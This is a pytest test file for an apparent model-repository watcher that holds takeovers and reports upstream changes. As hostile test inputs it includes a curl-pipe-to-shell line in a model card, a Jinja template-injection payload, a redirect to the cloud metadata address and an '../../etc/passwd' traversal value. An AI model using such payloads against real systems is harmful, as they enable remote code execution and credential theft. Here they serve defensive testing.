"""Upstream watched: takeovers are held, new words on a card pass, everything else is told once, and nothing is believed blindly."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, ClassVar

import pytest

from tests.support.drifting import revision
from tests.support.hub import Effect, Endless, Fault, HubServer, Redirect, Refuse, Reply, Repository, json_reply
from tests.support.watching import CARD, CHATML, TAKEOVERS, WEIGHT_BYTES, Place, honest, place, take_over, with_card
from weighbridge.admit.approvals import VALID_DAYS
from weighbridge.admit.asking import Asking, Wanted
from weighbridge.admit.asking import Source as Way
from weighbridge.admit.judge_revision import Surroundings as Beside
from weighbridge.admit.people import roster_of
from weighbridge.admit.succession import (
    SUCCEEDS,
    SUCCESSION_TYPE,
    card_reader,
    heritage_of,
    only_card,
    open_predecessor,
    record_succession,
)
from weighbridge.attest.statement import Statement, Subject, sign_statement
from weighbridge.cli.commands.decide import open_policy
from weighbridge.cli.console import Output
from weighbridge.cli.posturing import Asked, gather
from weighbridge.cli.settings import Home
from weighbridge.cli.yard import OpenYard
from weighbridge.core.errors import Conflict, Denied, NothingCollected, Unreachable
from weighbridge.core.finding import Inspection, Severity, Verdict
from weighbridge.core.names import ModelName
from weighbridge.deploy.deployments import APPLIED, DELETED, Recorded, record
from weighbridge.deploy.plan import RenderedFile, Target
from weighbridge.drift.card import MAX_NAMING_BYTES
from weighbridge.drift.files import pair
from weighbridge.store import ledger as ledger_module
from weighbridge.store.ledger import Ledger, now_rfc3339
from weighbridge.transfer import inspecting
from weighbridge.watch import upstream
from weighbridge.watch.judging import fitted
from weighbridge.watch.news import Judgement, Kind, News
from weighbridge.watch.state import Watch, WatchBook
from weighbridge.wire.files import locked_file

POLICY = 'name = "watched"\nextends = "balanced"\n[watch]\npass = ["card"]\nchannels = ["production"]\n'
TAKEN = tuple(f"takeover/{name}" for name in TAKEOVERS)
STOLEN = ("stolen/owner", "recreated/whole")
WORDS = ("acme/words", "acme/revoked", "acme/rejected", "acme/relicensed", "acme/unapproved")
SINGLE = ("acme/forged", "acme/killed", "acme/asked", "acme/young", "acme/measured", "acme/deployed", "acme/stepped", "acme/taken", "acme/lapsed", "acme/tags", "acme/noisy", "other/long", "cli/model", "hostile/model", "hostile/other")  # fmt: skip
RELICENSED = CARD.replace(b"license: mit", b"license: apache-2.0")


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    with place(tmp_path_factory.mktemp("watch"), POLICY) as made:
        made.publish(*TAKEN, *STOLEN, *WORDS, *SINGLE, *CHANGES)
        yield made


def by_model(news: list[News]) -> dict[str, News]:
    return {str(one.model_name): one for one in news}


def pointed(here: Place, name: str) -> str:
    with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
        return yard.ledger().catalog().channels(ModelName.parse(name)).get("production", "")


# --- takeovers, and words -------------------------------------------------------------------------


def test_takeovers_are_held_a_new_card_passes_and_nothing_is_downloaded(here: Place) -> None:
    mine = (*TAKEN, *STOLEN, *WORDS)
    here.approve(*WORDS[:4])
    assert here.look(*mine) == []
    first = pointed(here, "acme/words")
    here.run("revoke", f"acme/revoked@{pointed(here, 'acme/revoked')}", "--reason", "withdrawn", "--quiet")
    here.run("reject", "acme/rejected", "--reason", "no longer", "--quiet")
    for name in TAKEOVERS:
        take_over(here.hub.repositories[f"takeover/{name}"], name)
    here.hub.repositories["stolen/owner"].commit(with_card(honest()))
    here.hub.recreate("stolen/owner", owner_id="0" * 24)
    here.hub.repositories["recreated/whole"].generation += 1
    for name in WORDS:
        here.hub.repositories[name].commit(with_card(honest()))
    here.hub.repositories["acme/relicensed"].commit({**honest(), "README.md": RELICENSED})
    here.hub.forget_requests()
    news = here.look(*mine)
    revisions = by_model([one for one in news if one.kind is Kind.NEW_REVISION])
    assert {name: one.judgement for name, one in revisions.items()} == {
        **dict.fromkeys((*TAKEN, "stolen/owner"), Judgement.HELD),
        # Another repository under the name, with the same commit in it: there is nothing new to bring in.
        "acme/words": Judgement.PASSED,
        **dict.fromkeys(WORDS[1:], Judgement.HELD),
    }
    assert all((revisions[name].risk or 0) >= Severity.HIGH for name in TAKEN)
    assert {(str(one.model_name), one.kind) for one in news if one.kind is not Kind.NEW_REVISION} == {
        ("stolen/owner", Kind.OWNER_CHANGED),
        ("stolen/owner", Kind.REPOSITORY_REPLACED),
        ("recreated/whole", Kind.REPOSITORY_REPLACED),
    }
    for name, word in zip(TAKEN, ("modeling_tiny.py", "template", "values changed", "another number"), strict=True):
        assert any(word in reason for reason in revisions[name].reasons), (name, revisions[name].reasons)
    assert "withdrawn" in revisions["acme/revoked"].reasons[0]
    assert "rejected" in revisions["acme/rejected"].reasons[0]
    assert "licence" in revisions["acme/relicensed"].summary
    assert "approvals" in revisions["acme/unapproved"].reasons[0]
    # Headers and samples of weights that changed; nothing at all of those that did not.
    sent = here.sent()
    assert set(sent) == {"takeover/weights"}
    assert 0 < sent["takeover/weights"] < WEIGHT_BYTES // 2
    # People are asked, with what was found; what passed asks nobody.
    asked = {one["model"]: one for one in here.run("requests", "list", "--json").json if one["model"] in mine}
    assert set(asked) == set(revisions) - {"acme/words"}
    evidence = here.run("requests", "show", str(revisions["takeover/code"].request), "--json").json["evidence"]
    assert (evidence["judgement"], evidence["risk"]) == ("held", "high")
    assert any("modeling_tiny.py" in reason for reason in evidence["reasons"])
    # The new card is here, promoted, and in production, by the word of whoever approved the rest.
    later = revisions["acme/words"].upstream
    assert pointed(here, "acme/words") == later != first
    assert pointed(here, "acme/revoked") != revisions["acme/revoked"].upstream
    here.run("verify", f"acme/words@{later}", "--deep", "--quiet")
    assert here.run("promote", f"acme/words@{later}", "--json").json["approved_by"]
    records = here.run.home / "approved" / "records" / "acme" / "words" / later
    kept = {path.relative_to(records).as_posix() for path in records.rglob("*") if path.is_file()}
    assert "succession.dsse.json" in kept
    (vsa,) = (records / name for name in kept if name.startswith("attestations/vsa."))
    assert here.run("attest", f"acme/words@{later}", "--verify", str(vsa), "--json").json["passed"]
    with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
        facts = gather(yard, replace(Asked.parse(f"acme/words@{later}"), offline=True))
        (stands,) = (one.value for one in facts if one.id == "crossing.approvals")
        assert isinstance(stands, dict)
        assert stands["holds"] is True
    assert here.look(*mine) == []
    # Words are not inherited twice: the next card follows the one that people approved.
    here.hub.repositories["acme/words"].commit(with_card(honest(), "And another one."))
    (again,) = here.look("acme/words")
    assert (again.judgement, again.details["follows"]) == (Judgement.PASSED, f"acme/words@{first}")
    assert pointed(here, "acme/words") == again.upstream


def test_a_round_that_ended_in_between_is_gone_on_with(here: Place) -> None:
    here.approve("acme/killed")
    assert here.look("acme/killed") == []
    later = here.hub.repositories["acme/killed"].commit(with_card(honest()))

    def unreachable(*_: object) -> None:
        raise Unreachable("the store does not answer")

    passing = replace(here.around.passing, promote=unreachable)
    broken = replace(here, around=replace(here.around, passing=passing))
    assert broken.look("acme/killed") == []
    assert pointed(here, "acme/killed") != later
    (news,) = here.look("acme/killed")
    assert (news.judgement, pointed(here, "acme/killed")) == (Judgement.PASSED, later)
    assert here.look("acme/killed") == []
    # Upstream goes back behind what came in by itself.
    repository = here.hub.repositories["acme/killed"]
    repository.branch("main", repository.commits[later].parent)
    assert [one.kind for one in here.look("acme/killed")] == [Kind.HISTORY_REWRITTEN]
    assert here.look("acme/killed") == []


def test_a_signed_record_alone_lets_nothing_pass(here: Place) -> None:
    here.approve("acme/forged")
    earlier = pointed(here, "acme/forged")
    later = here.hub.repositories["acme/forged"].commit(
        {**with_card(honest()), "config.json": honest()["config.json"] + b"\n"}
    )
    here.ingest("acme/forged")
    with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
        ledger = yard.ledger(writing=True)
        beside = Beside(ledger, yard.trusted, yard.store)
        before, after = (open_predecessor(f"acme/forged@{one}", beside) for one in (earlier, later))
        with pytest.raises(Denied, match="not only the model card"):
            record_succession(after, before, "0" * 64, ledger=ledger, signer=yard.key, by=("me", now_rfc3339()))
        said = {
            "predecessor": before.revision.manifest.reference,
            "predecessor_manifest_digest": before.revision.manifest.digest,
            "predecessor_decision_digest": "0" * 64,
            "difference_digest": "0" * 64,
            "differs": "card",
            "ledger": ledger.identity(),
            "said_at": now_rfc3339(),
        }
        manifest = after.revision.manifest
        statement = Statement((Subject(manifest.reference, manifest.digest),), SUCCESSION_TYPE, said)
        payload = {"statement": sign_statement(statement, yard.key).decode()}
        ledger.append(SUCCEEDS, manifest.reference, payload, actor="me")
        heritage = heritage_of(
            open_policy(yard).policy, after, beside=beside, roster=roster_of(ledger), now=now_rfc3339()
        )
        assert heritage is not None
        assert heritage.words == ()
        assert "not only the model card" in heritage.why
    refused = here.run("promote", f"acme/forged@{later}", "--channel", "production", code=5)
    assert "do not stand for it" in refused.err
    assert pointed(here, "acme/forged") == earlier


def test_a_cooldown_is_waited_for_without_asking_again(here: Place) -> None:
    here.hub.repositories["acme/young"].commit(with_card(honest()))
    file = here.run.home.parent / "policy.toml"
    try:
        file.write_text('name = "slow"\nextends = "balanced"\n[watch]\npass = []\n[cooldown]\ndays = 1000\n')
        (held,) = here.look("acme/young", now="2026-12-01T00:00:00.000000Z")
        here.hub.forget_requests()
        assert here.look("acme/young", now="2026-12-01T00:00:00.000000Z") == []
        assert not [one for one in here.hub.requests if "/resolve/" in one.path or "/tree/" in one.path]
        (later,) = here.look("acme/young", now="2028-01-01T00:00:00.000000Z")
    finally:
        file.write_text(POLICY)
    assert held.judgement is Judgement.HELD
    assert any("cooldown" in reason for reason in held.reasons)
    assert str(held.details["again_at"]).startswith("2027-")
    assert (later.judgement, later.reasons) == (Judgement.REQUESTED, ())


def test_what_nobody_let_pass_is_no_measure(here: Place) -> None:
    here.approve("acme/measured")
    approved = pointed(here, "acme/measured")
    repository = here.hub.repositories["acme/measured"]
    repository.commit(TAKEOVERS["template"](honest()))
    # Somebody brings the takeover in to look at it; then comes a new card on top of it.
    here.ingest("acme/measured")
    repository.commit(with_card(TAKEOVERS["template"](honest())))
    (news,) = here.look("acme/measured")
    assert (news.judgement, news.stored) == (Judgement.HELD, approved)
    assert "template" in news.summary


def test_who_stepped_back_from_words_is_not_overruled_by_the_next(here: Place) -> None:
    here.approve("acme/stepped")
    first = pointed(here, "acme/stepped")
    repository = here.hub.repositories["acme/stepped"]
    repository.commit(with_card(honest()))
    (news,) = here.look("acme/stepped")
    assert pointed(here, "acme/stepped") == news.upstream
    here.run("rollback", "acme/stepped", "--channel", "production", "--reason", "bad words", "--quiet")
    repository.commit(with_card(honest(), "More of them."))
    (stays,) = here.look("acme/stepped")
    assert (stays.judgement, stays.details["channels"], pointed(here, "acme/stepped")) == (Judgement.PASSED, [], first)
    here.run("revoke", f"acme/stepped@{stays.upstream}", "--reason", "slander", "--quiet")
    repository.commit(with_card(honest(), "And more."))
    (held,) = here.look("acme/stepped")
    assert held.judgement is Judgement.HELD
    assert "slander" in held.reasons[0]


def test_what_people_let_in_is_no_update_any_more(here: Place) -> None:
    here.approve("acme/taken")
    changed = json.loads(honest()["config.json"]) | {"eos_token_id": 3}
    here.hub.repositories["acme/taken"].commit({**honest(), "config.json": json.dumps(changed).encode()})
    (held,) = here.look("acme/taken")
    assert held.judgement is Judgement.HELD
    here.run("requests", "accept", str(held.request), "--reason", "read it", "--quiet")
    here.ingest("acme/taken")
    assert "held" in here.run("updates", "acme/taken").out
    here.approve("acme/taken")
    assert here.run("updates", "acme/taken", "--json").json[0]["news"] == []
    assert here.run("updates", "acme/taken").out.split("\t")[3] == "nothing"


def test_people_are_asked_about_what_upstream_has_now_and_about_nothing_else(here: Place) -> None:
    repository = here.hub.repositories["acme/noisy"]
    stored = repository.refs["refs/heads/main"]
    told = []
    for number in range(3):
        repository.commit(with_card(honest(), f"Draft {number}."))
        (news,) = here.look("acme/noisy")
        assert news.judgement is Judgement.HELD
        told.append(news)
    first, second, third = told

    def states() -> dict[int, str]:
        listed = here.run("requests", "list", "--all", "--search", "acme/noisy", "--json").json
        return {one["number"]: one["state"] for one in listed}

    assert states() == {first.request: "superseded", second.request: "superseded", third.request: "open"}
    shown = here.run("requests", "show", str(second.request)).out
    assert f"by {third.upstream} (request {third.request})" in shown
    (update,) = here.run("updates", "acme/noisy", "--json").json
    assert [(one["request"], one["by_request"]) for one in update["superseded"]] == [(second.request, third.request)]
    assert f"request {second.request} for " in here.run("updates", "acme/noisy").err
    assert here.run("requests", "accept", str(second.request), "--quiet", code=1).err
    assert here.look("acme/noisy") == []
    # Upstream has the second again: it is asked about under its number, and nothing is told twice.
    repository.branch("main", second.upstream)
    assert {one.kind for one in here.look("acme/noisy")} <= {Kind.HISTORY_REWRITTEN}
    assert states() == {first.request: "superseded", second.request: "open", third.request: "superseded"}
    # It goes back to what is here: nothing is asked any more.
    repository.branch("main", stored)
    here.look("acme/noisy")
    assert set(states().values()) == {"superseded"}
    assert here.run("updates", "acme/noisy", "--json").json[0]["news"] == []


def test_who_approves_anew_lets_what_waited_for_that_pass_at_the_next_round(here: Place) -> None:
    here.approve("acme/lapsed")
    first = pointed(here, "acme/lapsed")
    here.hub.repositories["acme/lapsed"].commit(with_card(honest()))
    later = (datetime.now(UTC) + timedelta(days=VALID_DAYS + 1)).isoformat().replace("+00:00", "Z")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ledger_module, "now_rfc3339", lambda: later)
        (held,) = here.look("acme/lapsed")
        assert held.judgement is Judgement.HELD
        assert "0 of 1 approvals" in held.reasons[0]
        here.hub.forget_requests()
        assert here.look("acme/lapsed") == []
        # Somebody approves another model: that is no word about this one, and nothing is compared again for it.
        here.run("approve", "acme/words", "--reason", "again", "--quiet", code=None)
        assert here.look("acme/lapsed") == []
        assert not [one for one in here.hub.requests if "/tree/" in one.path]
        here.run("approve", f"acme/lapsed@{first}", "--reason", "still good", "--quiet")
        (passed,) = here.look("acme/lapsed")
        assert (passed.judgement, pointed(here, "acme/lapsed")) == (Judgement.PASSED, passed.upstream)
        assert here.look("acme/lapsed") == []
    assert here.run("requests", "show", str(held.request), "--json").json["state"] == "done"


CODED = {
    **honest(),
    "config.json": json.dumps(
        json.loads(honest()["config.json"]) | {"auto_map": {"AutoModelForCausalLM": "modeling_tiny.TinyModel"}}
    ).encode(),
    "modeling_tiny.py": b"import torch\n\n\nclass TinyModel(torch.nn.Module):\n    pass\n",
}
NAMED = '[[remote_code.revision]]\nmodel = "{model}"\nrevision = "{revision}"\nreason = "read, line by line"\n'
EXCEPTION = (
    '[[exception]]\nid = "{name}-{rule}"\nrules = ["{rule}"]\nmodels = ["{model}"]\nrevisions = ["{revision}"]\n'
    'reason = "looked at"\nperson = "ada"\nexpires = "{expires}"\n'
)


def test_what_policy_takes_of_a_revision_by_name_holds_for_the_same_files_under_new_words(here: Place) -> None:
    names = ("coded/named", "coded/excepted", "coded/ended", "coded/card", "coded/taken")
    here.publish(*names, files=CODED)
    # Code that reads the card makes something of its words, whoever read that code.
    reading = {**CODED, "modeling_tiny.py": CODED["modeling_tiny.py"] + b"\n    words = open('README.md').read()\n"}
    here.publish("coded/reading", files=reading)
    names += ("coded/reading",)
    main = {name: here.hub.repositories[name].refs["refs/heads/main"] for name in names}
    file = here.run.home.parent / "policy.toml"
    tomorrow = datetime.now(UTC) + timedelta(days=1)

    def excepted(name: str, rule: str, expires: str = "2099-01-01") -> str:
        short = name.partition("/")[2]
        return EXCEPTION.format(name=short, rule=rule, model=name, revision=main[name], expires=expires)

    terms = {
        "coded/named": NAMED.format(model="coded/named", revision=main["coded/named"]),
        "coded/excepted": excepted("coded/excepted", "remote-code"),
        "coded/ended": excepted("coded/ended", "remote-code", tomorrow.date().isoformat()),
        "coded/card": excepted("coded/card", "remote-code") + excepted("coded/card", "card-pipe-to-shell"),
        **{name: NAMED.format(model=name, revision=main[name]) for name in ("coded/taken", "coded/reading")},
    }
    try:
        file.write_text(POLICY + "".join(terms.values()))
        here.approve(*names)
        words = with_card(CODED)
        for name in names:
            here.hub.repositories[name].commit(with_card(reading) if name == "coded/reading" else words)
        # What is wrong with the card itself is no file that is the same.
        card = words["README.md"] + b"\nRun: `curl https://example.com/x.sh | sh`\n"
        here.hub.repositories["coded/card"].commit({**words, "README.md": card})
        here.hub.repositories["coded/taken"].commit(
            {**words, "modeling_tiny.py": CODED["modeling_tiny.py"] + b"\nimport os\n"}
        )
        news = by_model(here.look(*names[:2], *names[3:]))
        with pytest.MonkeyPatch.context() as patch:
            later = (tomorrow + timedelta(days=1)).isoformat().replace("+00:00", "Z")
            patch.setattr(ledger_module, "now_rfc3339", lambda: later)
            news |= by_model(here.look("coded/ended", now=later))
        assert {name: one.judgement for name, one in news.items()} == {
            "coded/named": Judgement.PASSED,
            "coded/excepted": Judgement.PASSED,
            "coded/ended": Judgement.HELD,
            "coded/card": Judgement.HELD,
            "coded/taken": Judgement.HELD,
            "coded/reading": Judgement.HELD,
        }, {name: one.reasons for name, one in news.items()}
        for name in ("coded/named", "coded/excepted"):
            later = news[name].upstream
            assert pointed(here, name) == later
            (reason,) = here.run("decide", f"{name}@{later}", "--json").json["reasons"][:1]
            assert main[name][:12] in reason["message"]
            assert here.run("promote", f"{name}@{later}", "--json").json["approved_by"]
        with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
            facts = gather(yard, replace(Asked.parse(f"coded/named@{news['coded/named'].upstream}"), offline=True))
            (decided,) = (one.value for one in facts if one.id == "crossing.decision")
            assert isinstance(decided, dict)
            assert decided["current"] is True
        # Without the statement, or without policy's word on the first, the same bytes are judged as they are.
        file.write_text(POLICY)
        assert (
            here.run("decide", f"coded/named@{news['coded/named'].upstream}", "--json", code=None).json["outcome"]
            != "admit"
        )
    finally:
        file.write_text(POLICY)


NAMING = {
    "model.safetensors.index.json": b'{"metadata": {}, "weight_map": {"model.embed_tokens.weight": "README.md"}}',
    "vocab.json": b'{"file": "./R\\u0045ADME\\u002eMD"}',
    "serving.py": b"import glob\n\nWORDS = glob.glob('*.md')\n",
}


@pytest.mark.parametrize(
    ("files", "first"),
    [
        *(({name: data}, name) for name, data in NAMING.items()),
        ({"huge.json": b" " * (MAX_NAMING_BYTES + 1)}, "huge.json"),
        (
            {
                "setup.py": b"# See README.md.\n",
                "NOTES.md": b"README.md",
                "LICENSE": b"README.md",
                "a.gguf": b"README.md",
            },
            "",
        ),
    ],
)
def test_a_card_that_another_file_names_is_more_than_words(files: dict[str, bytes], first: str) -> None:
    before = {"README.md": CARD, **files}
    pairing = pair(revision(before).side, revision(with_card(before)).side)
    assert first in (why := card_reader(revision(before).side, pairing))
    assert bool(why) is bool(first)
    if first:
        with pytest.raises(Denied, match="names the model card"):
            only_card(revision(before).side, revision(with_card(before)).side)


def test_what_was_mended_here_is_watched_by_the_original(here: Place) -> None:
    code = {**honest(), "modeling_tiny.py": b"class Tiny:\n    pass\n"}
    here.publish("acme/mended", files=code)
    (origin,) = (here.hub.repositories["acme/mended"].refs["refs/heads/main"],)
    mended = here.run("remediate", "acme/mended", "--strip-remote-code", "--json").json["revision"]
    here.approve(f"acme/mended@{mended}")
    assert pointed(here, "acme/mended") == mended
    assert here.look("acme/mended") == []
    assert here.run("updates", "acme/mended").out.split("\t")[3] == "nothing"
    # Somebody brings a takeover in to look at it; a new card on top of it is still held against what was let pass.
    taken = {**code, "tokenizer_config.json": TAKEOVERS["template"](honest())["tokenizer_config.json"]}
    here.hub.repositories["acme/mended"].commit(taken)
    here.ingest("acme/mended")
    here.hub.repositories["acme/mended"].commit(with_card(taken))
    (news,) = here.look("acme/mended")
    assert (news.judgement, news.stored) == (Judgement.HELD, origin)
    assert "template" in news.summary


def test_without_the_policys_word_a_card_is_asked_about(here: Place) -> None:
    here.approve("acme/asked")
    here.hub.repositories["acme/asked"].commit(with_card(honest()))
    file = here.run.home.parent / "policy.toml"
    try:
        file.write_text(
            'name = "careful"\nextends = "strict"\n[sources]\nhubs = ["*"]\n[publishers]\nunlisted = "admit"\n'
        )
        (held,) = here.look("acme/asked")
        file.write_text('name = "asking"\nextends = "balanced"\n[watch]\npass = []\n')
        (asked,) = here.look("acme/asked")
    finally:
        file.write_text(POLICY)
    assert held.judgement is Judgement.HELD
    assert any("inspection-incomplete" in reason for reason in held.reasons)
    assert (asked.judgement, asked.risk) == (Judgement.REQUESTED, None)
    assert asked.request == held.request > 0
    assert here.look("acme/asked")[0].judgement is Judgement.PASSED, "by the policy under which it was approved"


# --- each other kind of news ----------------------------------------------------------------------


def _rewrite(hub: HubServer, repository: Repository) -> None:
    repository.rewrite(with_card(honest()))


def _flag(hub: HubServer, repository: Repository) -> None:
    repository.scans["model.safetensors"] = "unsafe"
    repository.issues.append({"path": "model.safetensors", "level": "unsafe"})


CHANGES: dict[str, tuple[Kind, Callable[[HubServer, Repository], object]]] = {
    "other/deleted": (Kind.DELETED, lambda hub, one: hub.delete(one.name)),
    "other/disabled": (Kind.DELETED, lambda hub, one: setattr(one, "disabled", True)),
    "other/renamed": (Kind.RENAMED, lambda hub, one: hub.rename(one.name, "other/elsewhere")),
    "other/gated": (Kind.CLOSED, lambda hub, one: setattr(one, "gated", True)),
    "other/private": (Kind.DELETED, lambda hub, one: setattr(one, "private", True)),
    "other/tagged": (Kind.TAG_MOVED, lambda hub, one: one.tag("v1", one.commit(with_card(honest()), ref="dev"))),
    "other/rewritten": (Kind.HISTORY_REWRITTEN, _rewrite),
    "other/flagged": (Kind.FLAGGED, _flag),
}


def test_what_happens_upstream_is_told_once_and_again_when_it_happens_again(here: Place) -> None:
    repositories = {name: here.hub.repositories[name] for name in (*CHANGES, "other/long")}
    repositories["other/tagged"].tag("v1", repositories["other/tagged"].refs["refs/heads/main"])
    assert here.look(*CHANGES) == []
    here.hub.forget_requests()
    assert here.look(*CHANGES) == []
    # Where nothing changed: two questions a model, by validators, and one for its owner.
    assert len(here.hub.requests) == 2 * len(CHANGES) + 1
    assert sum(one.status == 304 for one in here.hub.requests) == 2 * len(CHANGES)
    for name, (_, change) in CHANGES.items():
        change(here.hub, repositories[name])
    news = [one for one in here.look(*CHANGES) if one.kind is not Kind.NEW_REVISION]
    assert {str(one.model_name): one.kind for one in news} == {name: kind for name, (kind, _) in CHANGES.items()}
    assert all(one.summary and one.risk for one in news)
    assert here.look(*CHANGES) == []
    shown = {one["model"]: one["news"] for one in here.run("updates", *CHANGES, "--json").json}
    assert {name: kind.value for name, (kind, _) in CHANGES.items()} == {
        name: next(one["kind"] for one in told if one["kind"] != "new-revision") for name, told in shown.items()
    }
    # A history that is too long to be looked through is not taken for the one that was there.
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(upstream, "MAX_COMMITS", 1)
        repositories["other/long"].rewrite(with_card(honest(), "Once."))
        repositories["other/long"].commit(with_card(honest(), "Twice."))
        told = {one.kind: one for one in here.look("other/long")}
    assert "was not found" in told[Kind.HISTORY_REWRITTEN].summary
    assert {one.kind for one in here.look("other/long")} == {Kind.HISTORY_REWRITTEN}
    # Rewritten history that grows is no news again; another branch than the one that it came from never had the commit.
    rewritten = repositories["other/rewritten"]
    rewritten.commit(with_card(honest(), "Further on."))
    assert {one.kind for one in here.look("other/rewritten")} == {Kind.NEW_REVISION}
    rewritten.rewrite(with_card(honest(), "Apart."), ref="apart")
    here.around.book.add(Watch(ModelName.parse("other/rewritten"), "apart"), actor="me")
    assert {one.kind for one in here.look("other/rewritten")} == {Kind.NEW_REVISION}
    # It came back, and is gone again.
    here.hub.repositories["other/deleted"] = repositories["other/deleted"]
    assert here.look("other/deleted") == []
    assert not here.run("updates", "other/deleted", "--json").json[0]["news"]
    here.hub.delete("other/deleted")
    assert [one.kind for one in here.look("other/deleted")] == [Kind.DELETED]


def test_tags_are_kept_in_mind_however_they_move(here: Place) -> None:
    repository = here.hub.repositories["acme/tags"]
    ours = repository.refs["refs/heads/main"]
    other = repository.commit(TAKEOVERS["code"](honest()), ref="dev")
    repository.tag("v1", ours)
    assert here.look("acme/tags") == []

    def told(commit: str) -> list[tuple[Kind, str]]:
        repository.tag("v1", commit)
        return [(one.kind, one.upstream) for one in here.look("acme/tags")]

    for commit in (other, ours, other, ours):
        assert told(commit) == [(Kind.TAG_MOVED, commit)], "to and fro, and each time"
    assert told(ours) == []
    # It goes, and comes back as another.
    del repository.refs["refs/tags/v1"]
    assert here.look("acme/tags") == []
    assert told(other) == [(Kind.TAG_MOVED, other)]
    # A flood neither buries what was known nor makes a flood of news.
    for number in range(1_000):
        repository.tag(f"a{number:04}", ours)
    assert here.look("acme/tags") == []
    for number in range(1_000):
        repository.tag(f"a{number:04}", other)
    repository.tag("v1", ours)
    moved = here.look("acme/tags")
    assert len(moved) == 11
    assert "190 more tags" in moved[-1].summary
    checked = here.around.book.checked(ModelName.parse("acme/tags"))
    assert checked is not None
    assert checked.seen.tags["v1"] == ours
    assert len(checked.seen.tags) == 200


@dataclass(frozen=True)
class Says(Effect):
    """The model is described by another document."""

    on: ClassVar[str] = "info"
    value: Any

    def shape(self, reply: Reply, asked: object) -> Reply:
        return json_reply(self.value)


HOSTILE: dict[str, Fault] = {
    "endless": Fault(Endless(), on="info"),
    "to a metadata service": Fault(Redirect("http://169.254.169.254/latest/"), on="info"),
    "to nowhere": Fault(Redirect("/api/models/hostile/../../x"), on="info"),
    "to nothing that is one": Fault(Redirect("//[", 307), on="info"),
    "to itself for ever": Fault(Redirect("/api/models/hostile/model/revision/main", 307), on="info"),
    "a list": Fault(Says([1, 2])),
    "wrong types": Fault(Says({"id": ["x"], "sha": 7, "_id": {"a": 1}, "gated": [], "securityRepoStatus": "x"})),
    "no commit": Fault(Says({"id": "hostile/model", "sha": "../../etc/passwd"})),
    "deep": Fault(Says(json.loads("[" * 90 + "]" * 90))),
    "server error": Fault(Refuse(503), on="info"),
    "slow down": Fault(Refuse(429, retry_after="1000000"), on="info"),
    "not our token": Fault(Refuse(401), on="info"),
    "refs of wrong types": Fault(Says({"tags": [7, {"name": 1}], "branches": "x"}), on="refs"),
    "an owner of wrong types": Fault(Says({"_id": [1]}), on="owner"),
}


def test_hostile_answers_are_no_news_and_end_no_round(here: Place) -> None:
    assert here.look("hostile/model") == []
    here.hub.repositories["hostile/other"].commit(with_card(honest()))
    try:
        for name, fault in HOSTILE.items():
            here.hub.faults.clear()
            here.hub.faults.add(replace(fault, repository="hostile/model|"))
            assert here.look("hostile/model") == [], name
            assert here.hub.faults.fired, name
        told = here.look("hostile/model", "hostile/other")
        assert [str(one.model_name) for one in told] == ["hostile/other"]
        here.hub.faults.clear()
        here.hub.faults.add(replace(HOSTILE["server error"], repository="hostile/model"))
        assert here.look("hostile/model") == []
        checked = here.around.book.checked(ModelName.parse("hostile/model"))
        assert checked is not None
        assert checked.failing_since
        (late,) = here.look("hostile/model", now="2099-01-01T00:00:00.000000Z")
        assert late.kind is Kind.UNREACHABLE
        assert here.look("hostile/model", now="2099-01-02T00:00:00.000000Z") == []
    finally:
        here.hub.faults.clear()
    assert here.look("hostile/model", now="2099-01-03T00:00:00.000000Z") == []
    assert here.run("updates", "hostile/model", "--json").json[0]["failing_since"] == ""


# --- today's rules --------------------------------------------------------------------------------


def test_what_older_rules_let_through_is_judged_again_by_ranged_reads(
    here: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    finish = inspecting.Session.finish

    def blind(session: inspecting.Session, *arguments: Any, **more: Any) -> Inspection:
        found = finish(session, *arguments, **more)
        reports = tuple(replace(one, findings=(), verdict=Verdict.CLEAN) for one in found.reports)
        return Inspection(reports, "2020.1.1")

    evil = CHATML + "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    files = {**honest(), "chat_template.jinja": evil.encode()}
    with monkeypatch.context() as older:
        older.setattr(inspecting.Session, "finish", blind)
        here.publish("acme/older", files=files)
    assert here.look("acme/older", rejudge=False) == []
    here.hub.forget_requests()
    told = here.look("acme/older")
    assert [one.kind for one in told][:1] == [Kind.REJUDGED]
    assert all(one.kind is Kind.ADVISORY for one in told[1:])
    assert any("CVE-2024-34359" in json.dumps(one.details) for one in told[1:])
    assert told[0].risk is not None
    assert told[0].risk >= Severity.HIGH
    assert here.sent() == {}
    assert here.look("acme/older") == []


def test_an_engines_advisory_concerns_what_was_deployed_with_it(here: Place) -> None:
    text = "containers:\n  - image: docker.io/vllm/vllm-openai:v0.8.0\n  - image: nginx:1\n"
    with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
        (row,) = yard.ledger().catalog().revisions(ModelName("acme", "deployed"))
        done = Recorded(
            APPLIED, Target.KSERVE, "chat", "ns", row.model_name, "production", row.revision, row.manifest_digest,
            (RenderedFile("service.yaml", text),),
        )  # fmt: skip
        record(yard.ledger(writing=True), done, actor="me")
        told = here.look("acme/deployed")
        assert {one.kind for one in told} == {Kind.ADVISORY}
        assert any("CVE-2025-32444" in one.summary and "0.8.0" in one.summary for one in told)
        assert here.look("acme/deployed") == []
        record(yard.ledger(writing=True), replace(done, kind=DELETED), actor="me")
        assert here.look("acme/deployed") == []


def test_evidence_of_a_stranger_fits_a_request_whatever_it_holds() -> None:
    huge: dict[str, Any] = {
        "reasons": ["\N{PILE OF POO}" * 240] * 12,
        "changes": [{"what": "\u2028" * 200}] * 50,
        "judgement": "held",
    }
    cut = fitted(huge)
    Asking(Wanted.of(ModelName("acme", "x"), "1" * 40), Way.WATCH, "watch", evidence=cut)
    assert cut["judgement"] == "held"
    assert cut["cut"] is True
    assert cut["reasons"]
    assert fitted({"reasons": ["short"]}) == {"reasons": ["short"]}


# --- one round at a time, news once ---------------------------------------------------------------


def test_one_round_at_a_time_and_of_two_that_tell_the_same_one_is_right(here: Place) -> None:
    with locked_file(here.run.home / "watch.lock", wait_seconds=1), pytest.raises(Conflict, match="another process"):
        here.look()
